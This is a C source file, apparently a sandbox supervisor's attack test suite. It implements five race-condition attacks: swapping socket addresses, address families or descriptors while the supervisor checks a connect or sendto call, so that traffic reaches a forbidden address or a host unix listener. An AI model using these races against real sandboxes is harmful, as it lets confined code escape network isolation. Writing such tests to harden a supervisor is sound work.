/* race NAME: two threads against the supervisor: one calls, the other changes what the call points to. TRIES: how often;
 * UNIX_PATH: a unix listener of the host's. Each prints how often it got through ("reached N"). */
#include "attack.h"
#include <fcntl.h>
#include <pthread.h>
#include <sys/mman.h>
#include <sys/un.h>
#include <sys/wait.h>

/* Two threads: one calls, the other changes the address (or swaps the descriptor) meanwhile. */
static struct {
	struct sockaddr_in to;
	volatile bool stop;
	volatile int fd;
	int good_fd, bad_fd;
} race;

static void *flip_address(void *arg)
{
	(void)arg;
	while (!race.stop) {
		race.to.sin_addr = good.sin_addr;
		race.to.sin_addr = bad.sin_addr;
	}
	return NULL;
}

static long tries(long fallback)
{
	return getenv("TRIES") ? atol(getenv("TRIES")) : fallback;
}

static int race_address(void)
{
	pthread_t other;

	race.to = good;
	pthread_create(&other, NULL, flip_address, NULL);
	for (long i = tries(20000); i > 0; i--) {
		int s = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
		struct linger now = { 1, 0 };

		setsockopt(s, SOL_SOCKET, SO_LINGER, &now, sizeof(now));
		connect(s, (struct sockaddr *)&race.to, sizeof(race.to));
		close(s);
	}
	race.stop = true;
	pthread_join(other, NULL);
	return 0;
}

static int race_sendto(void)
{
	int s = socket(AF_INET, SOCK_DGRAM, 0);
	pthread_t other;

	race.to = good;
	pthread_create(&other, NULL, flip_address, NULL);
	for (long i = tries(20000); i > 0; i--)
		sendto(s, payload, sizeof(payload), MSG_DONTWAIT, (struct sockaddr *)&race.to, sizeof(race.to));
	race.stop = true;
	pthread_join(other, NULL);
	return 0;
}

/* The supervisor marks a socket while it connects it; another thread sends the socket elsewhere in that moment: once a socket,
 * each time a little later than the last. */
static void *aim_elsewhere(void *arg)
{
	unsigned turn = 0;

	(void)arg;
	while (!race.stop) {
		int fd = race.fd;

		if (fd < 0)
			continue;
		race.fd = -1;
		for (volatile unsigned wait = turn++ % 256 * 64; wait; wait--)
			;
		sendto(fd, payload, sizeof(payload), MSG_FASTOPEN | MSG_DONTWAIT | MSG_NOSIGNAL, (struct sockaddr *)&bad, sizeof(bad));
	}
	return NULL;
}

static int race_mark(void)
{
	pthread_t other;

	race.fd = -1;
	pthread_create(&other, NULL, aim_elsewhere, NULL);
	for (long i = tries(20000); i > 0; i--) {
		int s = socket(AF_INET, SOCK_STREAM | (i & 1 ? SOCK_NONBLOCK : 0), 0);
		struct linger now = { 1, 0 };

		setsockopt(s, SOL_SOCKET, SO_LINGER, &now, sizeof(now));
		race.fd = s;
		connect(s, (struct sockaddr *)&good, sizeof(good));
		close(s);
	}
	race.stop = true;
	pthread_join(other, NULL);
	return 0;
}

/* UNIX_PATH: a listener of the host's. Each call says AF_INET for long enough to look harmless. */
static int race_family(void)
{
	static union {
		struct sockaddr_un un;
		struct sockaddr_in in;
	} both;
	const char *path = getenv("UNIX_PATH");
	pid_t flipper;
	volatile short *family;
	long reached = 0;

	if (!path)
		return absent("UNIX_PATH");
	family = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	both.un.sun_family = AF_UNIX;
	snprintf(both.un.sun_path, sizeof(both.un.sun_path), "%s", path);
	memcpy((void *)family, &both, sizeof(both.un));
	flipper = fork();
	if (flipper == 0)
		for (;;) {
			*family = AF_INET;
			*family = AF_UNIX;
		}
	for (long i = tries(20000); i > 0; i--) {
		int s = socket(AF_UNIX, SOCK_STREAM, 0);

		reached += connect(s, (struct sockaddr *)family, sizeof(both.un)) == 0;
		close(s);
	}
	kill(flipper, SIGKILL);
	waitpid(flipper, NULL, 0);
	printf("reached %ld\n", reached);
	return 0;
}

static void *swap_descriptor(void *arg)
{
	(void)arg;
	while (!race.stop) {
		dup2(race.bad_fd, race.fd);
		dup2(race.good_fd, race.fd);
	}
	return NULL;
}

/* The descriptor is a TCP socket when it is looked at and a unix socket when it is used. */
static int race_descriptor(void)
{
	struct sockaddr_un un = { .sun_family = AF_UNIX };
	const char *path = getenv("UNIX_PATH");
	long reached = 0;
	pthread_t other;

	if (!path)
		return absent("UNIX_PATH");
	snprintf(un.sun_path, sizeof(un.sun_path), "%s", path);
	race.good_fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
	race.bad_fd = socket(AF_UNIX, SOCK_STREAM, 0);
	race.fd = dup(race.good_fd);
	pthread_create(&other, NULL, swap_descriptor, NULL);
	for (long i = tries(20000); i > 0; i--)
		if (connect(race.fd, (struct sockaddr *)&un, sizeof(un)) == 0)
			reached++;
	race.stop = true;
	pthread_join(other, NULL);
	printf("reached %ld\n", reached);
	return 0;
}

static const struct attack attacks[] = {
	{ "race-address", race_address },
	{ "race-sendto", race_sendto },
	{ "race-mark", race_mark },
	{ "race-family", race_family },
	{ "race-descriptor", race_descriptor },
	{ NULL, NULL },
};

int main(int argc, char **argv)
{
	return attack_main(argc, argv, attacks);
}
